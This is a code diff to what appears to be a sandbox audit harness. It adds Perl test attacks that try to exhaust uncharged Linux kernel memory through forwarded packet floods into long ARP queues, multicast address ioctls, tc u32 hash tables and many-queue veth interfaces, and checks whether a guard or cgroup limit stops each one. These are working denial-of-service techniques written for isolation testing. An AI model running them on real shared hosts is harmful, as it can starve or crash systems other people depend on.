@@ -6,7 +6,7 @@ import time
 from rigs.audit.attack import SCRIPT_SECONDS, Attack, AttackOutcome, Family, Judge, refused, through
 from rigs.audit.scene import LEARNER, Scene
 from rigs.audit.time_limits import within
-from rigs.audit.walls import CGROUP2, FIXED, GUARD, KERNEL_ONLY, SOCKET_MEMORY, STREAMS, UNCHARGED, Wall
+from rigs.audit.walls import CGROUP2, FIXED, GUARD, KERNEL_ONLY, SEARCHES, SOCKET_MEMORY, STREAMS, UNCHARGED, Wall
 
 MOST = 64  # MB
 ENOUGH = MOST + 16  # MB at which an attack stops, so that a control does not harm the host
@@ -73,6 +73,29 @@ for (1 .. PROCESSES) {{
 }}
 print "HELD $held in $connections connections\\n";
 sleep 10;
+"""
+
+
+# Frames sent into v0 arrive at v1 and are forwarded to neighbours behind w0 that nobody has. They have no socket any more.
+FORWARDED = r"""
+system("for n in v w; do ip link add \${n}0 mtu 65000 type veth peer name \${n}1 mtu 65000; ip link set \${n}0 up;"
+    . "ip link set \${n}1 up; done; ip addr add 10.9.0.1/24 dev v1; ip addr add 10.8.0.1/16 dev w0;"
+    . "cd /proc/sys/net/ipv4; echo 1 >ip_forward; echo 0 >conf/all/rp_filter; echo 0 >conf/v1/rp_filter;"
+    . "ip ntable change name arp_cache dev w0 queue 300000 retrans 4000");
+my ($index) = `ip -o link show v0` =~ /^(\d+)/;
+my ($mac) = `ip -o link show v1` =~ /ether (\S+)/;
+$mac = pack("H12", $mac =~ s/://gr);
+socket(my $out, 17, 3, 0);
+my $there = pack("SnlSCCa8", 17, 0x800, $index, 0, 0, 6, $mac);
+my $sent = 0;
+for my $host (256 .. 1755) {
+    my $head = pack("CCnnnCCna4CCn", 0x45, 0, 50020, $host, 0, 64, 17, 0, pack("C4", 10, 9, 0, 2), 10, 8, $host);
+    my $sum = 0;
+    $sum += $_ for unpack("n10", $head);
+    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
+    substr($head, 10, 2) = pack("n", ~$sum & 0xffff);
+    $sent += !!send($out, $mac . $mac . pack("n", 0x800) . $head . "x" x 50000, 0, $there) for 1 .. 4;
+}
 """
 
 
@@ -394,6 +417,65 @@ for my $name ("core/optmem_max", "ipv4/igmp_max_msf") {
 @set ? through("set: @set") : refused("$!");
 """,
             control=FIXED,
+        ),
+        Attack(
+            id="M30",
+            title="packets that are forwarded to 1,500 neighbours that nobody answers for, in queues made longer by netlink",
+            wall="the guard shortens such queues, and lets the searches fail where the lab holds too much",
+            perl=FORWARDED
+            + f"""
+my ($waits, $longest) = (0, 0);
+for (1 .. 60) {{  # searches last 12 seconds; the guard looks twice a second
+    my $now = () = `ip neigh show dev w0` =~ /INCOMPLETE/g;
+    open(my $limit, "<", "/proc/sys/net/ipv4/neigh/w0/unres_qlen_bytes");
+    my $each = <$limit> > 69632 ? 4 * 65792 : 69632;  # what was sent, or one large packet
+    $waits = ($now * $each) >> 20;
+    $longest = $waits if $waits > $longest;
+    last if $waits <= {MOST};
+    select(undef, undef, undef, 0.05);
+}}
+my $said = "$sent packets sent, $longest MB at first, $waits MB in the end";
+$waits > {MOST} ? through($said) : refused($said);
+""",
+            control=SEARCHES,
+        ),
+        held_in_the_kernel(
+            "M31",
+            "addresses of an interface for multicast groups (SIOCADDMULTI)",
+            f"""
+socket(my $socket, 2, 2, 0);
+for my $number (1 .. {ENOUGH} << 12) {{
+    ioctl($socket, 0x8931, pack("a16Sa14", "eth0", 0, pack("CCN", 1, 0, $number))) == -1 and last;
+    $held += 256;
+}}
+""",
+        ),
+        held_in_the_kernel(
+            "M32",
+            "hash tables of tc filters (u32), full on each of many interfaces",
+            """
+open(my $batch, "|-", "ip -batch -");
+print $batch "link add x$_ type veth peer name y$_\n" for 1 .. 12;
+close $batch;
+for my $name (map { ("x$_", "y$_") } 1 .. 12) {
+    open(my $filters, "|-", "tc -force -batch - 2>/dev/null");
+    print $filters "qdisc add dev $name ingress\n";
+    printf $filters "filter add dev $name ingress prio 1 handle %x: protocol ip u32 divisor 256\n", $_ for 1 .. 2040;
+    close $filters;
+    $held += 2040 * 3500;
+}
+""",
+        ),
+        held_in_the_kernel(
+            "M33",
+            "interfaces with thousands of queues",
+            """
+for my $number (1 .. 40) {
+    system("ip link add x$number numtxqueues 1024 numrxqueues 1024 type veth peer name y$number numtxqueues 1024 numrxqueues 1024")
+        and last;
+    $held += 4096 * 700;
+}
+""",
         ),
     ),
 )
